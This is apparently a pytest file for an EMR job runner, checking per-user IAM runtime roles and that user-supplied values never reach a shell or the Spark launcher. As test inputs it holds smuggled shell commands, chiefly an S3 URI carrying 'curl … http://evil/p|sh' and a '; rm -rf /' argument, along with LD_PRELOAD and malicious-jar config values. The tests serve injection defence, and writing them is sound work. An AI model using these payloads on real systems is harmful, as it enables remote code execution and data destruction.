"""EMR steps are scoped to their owner: runtime roles per user, no user text in a shell, a clean launcher.

moto runs EMR and IAM; moto does not keep a step's ``ExecutionRoleArn``, so the requests the runner
sends are recorded from botocore's parameters.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from chalicelib.runners import RunnerError
from chalicelib.runners import emr as emr_runner
from chalicelib.runners.emr import EmrRunner
from chalicelib.runners.jar import emr_step

ACCOUNT = "123456789012"
TEMPLATE = f"arn:aws:iam::{ACCOUNT}:role/sparkgate/dev/runtime/sparkgate-dev-rt-{{user_id}}"
ALICE, BOB = "a" * 32, "b" * 32
PAYLOAD = "s3://stage-bucket/x;curl -s http://evil/p|sh;y.sql"


def role_arn(user: str) -> str:
    return TEMPLATE.replace("{user_id}", user)


@pytest.fixture
def emr(aws: None, monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, Any]]:
    """A cluster, the shared runtime policy and the instance role in moto; every AddJobFlowSteps recorded."""
    from chalicelib.store.aws import client

    iam = client("iam")
    policy = iam.create_policy(
        PolicyName="EmrRuntimeAccess",
        PolicyDocument=json.dumps(
            {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"}]}
        ),
    )["Policy"]["Arn"]
    instance = iam.create_role(
        RoleName="EmrInstanceRole",
        AssumeRolePolicyDocument=json.dumps(
            {
                "Version": "2012-10-17",
                "Statement": [
                    {"Effect": "Allow", "Principal": {"Service": "ec2.amazonaws.com"}, "Action": "sts:AssumeRole"}
                ],
            }
        ),
    )["Role"]["Arn"]
    cluster = client("emr").run_job_flow(
        Name="sparkgate",
        ReleaseLabel="emr-7.9.0",
        Instances={"InstanceCount": 1, "KeepJobFlowAliveWhenNoSteps": True, "MasterInstanceType": "m5.xlarge"},
        JobFlowRole="EmrInstanceProfile",
        ServiceRole="EmrServiceRole",
    )["JobFlowId"]
    for key, value in {
        "SPARKGATE_EMR_CLUSTER_ID": cluster,
        "SPARKGATE_ENGINE_URI": "s3://stage-bucket/engine/sparkgate-engine.zip",
        "SPARKGATE_RUNNER": "emr",
        emr_runner.RUNTIME_ROLE_ENV: TEMPLATE,
        emr_runner.RUNTIME_POLICY_ENV: policy,
        emr_runner.INSTANCE_ROLE_ENV: instance,
        emr_runner.ROLE_SETTLE_ENV: "0",
    }.items():
        monkeypatch.setenv(key, value)
    requests: list[dict[str, Any]] = []

    def record(params: dict[str, Any], **_: Any) -> None:
        requests.append(json.loads(json.dumps(params)))

    client("emr").meta.events.register("provide-client-params.emr.AddJobFlowSteps", record)
    emr_runner.forget_runtime_roles()
    yield {"cluster": cluster, "policy": policy, "instance": instance, "requests": requests}
    client("emr").meta.events.unregister("provide-client-params.emr.AddJobFlowSteps", record)
    emr_runner.forget_runtime_roles()


def session(owner: Any, **config: Any) -> dict[str, Any]:
    return {"session_id": f"entrance-{owner}-spark", "generation": 1, "owner": owner, "config": config}


def flink_sql_job(artefact: str, exec_id: str = "e" * 32) -> dict[str, Any]:
    run = {"engine": "flink", "sql": True, "artefact": artefact, "main_class": None, "args": ["-Dx=1"]}
    return {"exec_id": exec_id, "owner": ALICE, "artefact_run": run}


# -- runtime roles -------------------------------------------------------------------------------------


def test_each_step_runs_under_its_owners_runtime_role(emr: dict[str, Any]) -> None:
    runner = EmrRunner()
    alice = runner.start_session(session(ALICE))
    bob = runner.start_batch({"exec_id": "f" * 32, "owner": BOB, "session_config": {}})
    assert [r["ExecutionRoleArn"] for r in emr["requests"]] == [role_arn(ALICE), role_arn(BOB)]
    assert alice["execution_role_arn"] == role_arn(ALICE) and bob["execution_role_arn"] == role_arn(BOB)
    assert all(r["JobFlowId"] == emr["cluster"] for r in emr["requests"])


def test_a_missing_runtime_role_is_created_tagged_bounded_and_trusted_by_the_nodes_only(emr: dict[str, Any]) -> None:
    from chalicelib.store.aws import client

    EmrRunner().start_session(session(ALICE))
    iam = client("iam")
    role = iam.get_role(RoleName=f"sparkgate-dev-rt-{ALICE}")["Role"]
    assert role["Arn"] == role_arn(ALICE)
    assert role["Path"] == "/sparkgate/dev/runtime/"
    assert {t["Key"]: t["Value"] for t in role["Tags"]} == {"sparkgate_user": ALICE}
    assert role["PermissionsBoundary"]["PermissionsBoundaryArn"] == emr["policy"]
    attached = iam.list_attached_role_policies(RoleName=f"sparkgate-dev-rt-{ALICE}")["AttachedPolicies"]
    assert [p["PolicyArn"] for p in attached] == [emr["policy"]]
    assert iam.list_role_policies(RoleName=f"sparkgate-dev-rt-{ALICE}")["PolicyNames"] == []
    trust = role["AssumeRolePolicyDocument"]
    trust = json.loads(trust) if isinstance(trust, str) else trust
    assert {json.dumps(s["Principal"]) for s in trust["Statement"]} == {json.dumps({"AWS": emr["instance"]})}
    tag_session = next(s for s in trust["Statement"] if s["Action"] == "sts:TagSession")
    assert tag_session["Condition"] == {"ForAllValues:StringNotLike": {"aws:TagKeys": ["sparkgate_*"]}}
    # A later step (another container: nothing cached) finds and checks the existing role.
    emr_runner.forget_runtime_roles()
    EmrRunner().start_session(session(ALICE))
    assert [r["ExecutionRoleArn"] for r in emr["requests"]] == [role_arn(ALICE)] * 2


def test_a_role_of_that_name_that_is_not_the_users_is_refused(emr: dict[str, Any]) -> None:
    from chalicelib.store.aws import client

    client("iam").create_role(
        Path="/sparkgate/dev/runtime/",
        RoleName=f"sparkgate-dev-rt-{ALICE}",
        AssumeRolePolicyDocument="{}",
        Tags=[{"Key": "sparkgate_user", "Value": BOB}],
    )
    with pytest.raises(RunnerError, match="not user"):
        EmrRunner().start_session(session(ALICE))
    assert emr["requests"] == []


@pytest.mark.parametrize("owner", [None, "", "../bob", "a*", "alice/../bob", "x" * 41, "${aws:username}", 7])
def test_a_step_without_a_nameable_owner_is_refused(emr: dict[str, Any], owner: Any) -> None:
    with pytest.raises(RunnerError):
        EmrRunner().start_session(session(owner))
    assert emr["requests"] == []


def test_off_the_local_stage_a_step_without_runtime_roles_is_refused(
    emr: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv(emr_runner.RUNTIME_ROLE_ENV)
    monkeypatch.setenv("SPARKGATE_STAGE", "dev")
    with pytest.raises(RunnerError, match="runtime role"):
        EmrRunner().start_session(session(ALICE))
    assert emr["requests"] == []
    monkeypatch.setenv("SPARKGATE_STAGE", "local")  # no IAM on one machine: the old step shape
    EmrRunner().start_session(session(ALICE))
    assert "ExecutionRoleArn" not in emr["requests"][0]


def test_operator_managed_roles_are_used_as_named(emr: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
    from chalicelib.store.aws import client

    monkeypatch.delenv(emr_runner.RUNTIME_POLICY_ENV)
    EmrRunner().start_session(session(ALICE))
    assert emr["requests"][0]["ExecutionRoleArn"] == role_arn(ALICE)
    assert client("iam").list_roles(PathPrefix="/sparkgate/")["Roles"] == []  # nothing created


def test_deleting_a_users_runtime_role(emr: dict[str, Any]) -> None:
    from chalicelib.store.aws import client

    EmrRunner().start_session(session(ALICE))
    assert emr_runner.delete_runtime_role(ALICE) is True
    assert client("iam").list_roles(PathPrefix="/sparkgate/")["Roles"] == []
    assert emr_runner.delete_runtime_role(ALICE) is False


# -- the launcher carries nothing the user chose that could run code in it ---------------------------


def test_hostile_session_config_never_reaches_the_launcher_or_the_supervisor(
    emr: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(emr_runner.SUPERVISOR_PROFILE_ENV, "sparkgate-supervisor")
    hostile = session(
        ALICE,
        master="spark://evil.example:7077",
        configs={
            "spark.executor.memory": "4g",
            "spark.driver.extraJavaOptions": "-javaagent:/tmp/agent.jar",
            "spark.driver.extraClassPath": "/tmp/evil",
            "spark.pyspark.driver.python": "/tmp/evil.sh",
            "spark.pyspark.python": "/tmp/evil.sh",
            "spark.jars": "s3://evil/x.jar",
            "spark.plugins": "evil.Plugin",
            "spark.sql.shuffle.partitions": "8\n--conf spark.jars=x",
        },
        envs={"AWS_CONFIG_FILE": "/tmp/evil.cfg", "LD_PRELOAD": "/tmp/evil.so", "PYTHONPATH": "/tmp"},
    )
    EmrRunner().start_session(hostile)
    args = emr["requests"][0]["Steps"][0]["HadoopJarStep"]["Args"]
    assert args[:5] == ["spark-submit", "--deploy-mode", "client", "--master", "yarn"]
    assert args.count("--master") == 1
    confs = [args[i + 1] for i, a in enumerate(args) if a == "--conf"]
    assert confs == ["spark.executor.memory=4g"]
    envs = [args[i + 1] for i, a in enumerate(args) if a == "--env"]
    assert "AWS_CONFIG_FILE=/etc/sparkgate/aws-config" in envs
    assert "AWS_PROFILE=sparkgate-supervisor" in envs
    joined = "\n".join(args)
    for planted in ("evil", "LD_PRELOAD", "PYTHONPATH", "/tmp"):
        assert planted not in joined, planted


def test_a_bad_supervisor_profile_is_refused(emr: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(emr_runner.SUPERVISOR_PROFILE_ENV, "x --env LD_PRELOAD=/tmp/e")
    with pytest.raises(RunnerError, match="profile"):
        EmrRunner().start_session(session(ALICE))


# -- artefact steps: no user text in a shell -------------------------------------------------------------


def test_flink_sql_payload_is_one_argument_of_a_constant_program(emr: dict[str, Any]) -> None:
    step = emr_step(flink_sql_job(PAYLOAD))
    args = step["HadoopJarStep"]["Args"]
    assert args == ["bash", "-c", emr_runner.FLINK_SQL_SCRIPT, "sparkgate-flink-sql", PAYLOAD]
    for fragment in ("curl", "evil", ";y.sql", "x;"):
        assert fragment not in emr_runner.FLINK_SQL_SCRIPT
    # Submitted under the owner's runtime role, like every step.
    EmrRunner().submit_step(step, ALICE)
    assert emr["requests"][0]["ExecutionRoleArn"] == role_arn(ALICE)
    assert emr["requests"][0]["Steps"] == [step]


def test_the_flink_sql_program_hands_the_payload_over_untouched(tmp_path: Path) -> None:
    """Run the step's program with stand-ins: ``hadoop`` sees the URI as one argument, ``curl`` never runs."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    record, planted = tmp_path / "hadoop-args.json", tmp_path / "curl-ran"
    fakes = {
        "hadoop": f'#!/usr/bin/env python3\nimport json, sys\njson.dump(sys.argv[1:], open("{record}", "w"))\n',
        "curl": f"#!/bin/sh\ntouch {planted}\n",
        "sh": f"#!/bin/sh\ntouch {planted}\n",
    }
    for name, body in fakes.items():
        (bin_dir / name).write_text(body)
        (bin_dir / name).chmod(stat.S_IRWXU)
    args = emr_step(flink_sql_job(PAYLOAD))["HadoopJarStep"]["Args"]
    env = {**os.environ, "PATH": f"{bin_dir}:/usr/bin:/bin", "TMPDIR": str(tmp_path)}
    got = subprocess.run(["/bin/bash", *args[1:]], env=env, capture_output=True, text=True, timeout=60)
    assert got.returncode != 0  # no Flink here: sql-client.sh is missing, after the copy
    copied = json.loads(record.read_text())
    assert copied[:2] == ["fs", "-copyToLocal"]
    assert copied[2] == PAYLOAD
    assert copied[3].startswith(str(tmp_path)) and copied[3].endswith("/work.sql")
    assert not planted.exists()
    assert not Path(copied[3]).parent.exists()  # the private directory is removed


@pytest.mark.parametrize(
    ("change", "match"),
    [
        ({"artefact": "/data/work.sql"}, "s3://"),
        ({"artefact": "s3://b/x.sql\n--conf x"}, "control"),
        ({"args": ["ok", "bad\nline"]}, "control"),
    ],
)
def test_artefact_steps_refuse_what_cannot_be_one_clean_argument(change: dict[str, Any], match: str) -> None:
    job = flink_sql_job("s3://stage-bucket/uploads/alice/q.sql")
    job["artefact_run"].update(change)
    with pytest.raises(RunnerError, match=match):
        emr_step(job)


def test_jar_steps_take_a_class_name_and_list_arguments() -> None:
    run = {"engine": "spark", "sql": False, "artefact": "s3://stage-bucket/uploads/a/app.jar", "args": ["; rm -rf /"]}
    step = emr_step({"exec_id": "e1", "owner": ALICE, "artefact_run": {**run, "main_class": "com.example.Main"}})
    assert step["HadoopJarStep"]["Args"] == [
        "spark-submit",
        "--deploy-mode",
        "cluster",
        "--class",
        "com.example.Main",
        "s3://stage-bucket/uploads/a/app.jar",
        "; rm -rf /",
    ]
    for bad in ("--conf", "com.example.Main --jars x", ""):
        with pytest.raises(RunnerError, match="class"):
            emr_step({"exec_id": "e1", "owner": ALICE, "artefact_run": {**run, "main_class": bad}})
    with pytest.raises(RunnerError, match="exec id"):
        emr_step({"exec_id": "e1;x", "owner": ALICE, "artefact_run": {**run, "main_class": "M"}})


def test_a_works_artefact_run_is_submitted_under_its_owners_runtime_role(emr: dict[str, Any]) -> None:
    from chalicelib.runners.jar import start_artefact_run
    from chalicelib.store import jobs as job_store

    job = {**flink_sql_job("s3://stage-bucket/uploads/alice/q.sql"), "task_id": 7, "status": "Scheduled"}
    job_store.insert_job(job)
    handle = start_artefact_run(job)
    assert emr["requests"][0]["ExecutionRoleArn"] == role_arn(ALICE)
    assert handle["execution_role_arn"] == role_arn(ALICE)
    assert job_store.get_job(job["exec_id"])["runner_handle"] == handle  # type: ignore[index]
